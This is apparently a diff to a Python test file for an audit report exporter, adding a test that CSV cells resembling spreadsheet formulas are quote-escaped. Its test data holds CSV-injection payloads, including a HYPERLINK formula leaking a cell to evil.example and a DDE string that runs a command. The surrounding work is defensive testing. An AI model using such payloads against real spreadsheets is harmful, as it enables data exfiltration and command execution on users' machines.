@@ -11,10 +11,11 @@ from html.parser import HTMLParser
 
 import polars as pl
 import pytest
-from .test_report import TRICKY, make_report
 
 from safer_audit.backends.exporters import PARQUET_METADATA_KEY
 from safer_audit.report import Report, export_report, findings_from_frame
+
+from .test_report import TRICKY, make_report
 
 
 @pytest.fixture
@@ -164,3 +165,27 @@ def test_every_exporter_replaces_an_old_file_whole(report, tmp_path, suffix):
     export_report(report, path)
     assert b"old content" not in path.read_bytes()
     assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(report, tmp_path):
+    import csv
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1:A9)",
+               "\tleading tab", "\rleading CR"]
+    first, second, third = _by_rank(report)[:3]
+    first.chosen, first.rejected, first.context = hostile[0], hostile[1], hostile[2]
+    second.chosen, second.rejected, second.context = hostile[3], hostile[4], hostile[5]
+    third.chosen, third.pair_id = hostile[6], "-7"
+    first.score_safe, first.reward_margin = -1.25, -0.5
+    path = tmp_path / "report.csv"
+    export_report(report, path)
+    with open(path, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    cells = [rows[0]["chosen"], rows[0]["rejected"], rows[0]["context"], rows[1]["chosen"], rows[1]["rejected"],
+             rows[1]["context"], rows[2]["chosen"]]
+    assert cells == ["'" + text for text in hostile]
+    assert rows[2]["pair_id"] == "'-7"  # an id is text, however numeric it looks
+    assert rows[0]["score_safe"] == "-1.25" and rows[0]["reward_margin"] == "-0.5"  # numbers stay numbers
+    assert rows[3]["chosen"] == _by_rank(report)[3].chosen  # plain text is written as it is
+    frame = pl.read_csv(path, schema_overrides={"pair_id": pl.String})
+    assert frame.schema["score_safe"] == pl.Float64 and frame["score_safe"][0] == -1.25
